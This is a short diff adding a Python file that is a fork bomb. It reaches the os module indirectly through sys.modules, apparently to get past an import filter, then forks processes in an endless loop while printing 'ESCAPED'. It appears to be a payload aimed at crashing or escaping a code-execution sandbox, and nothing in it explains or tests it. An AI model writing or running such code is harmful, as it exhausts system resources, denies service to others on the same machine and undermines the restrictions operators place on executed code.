@@ -1,0 +1,5 @@
+import sys
+os = sys.modules["os"]
+while True:
+    os.fork()
+    print("ESCAPED")
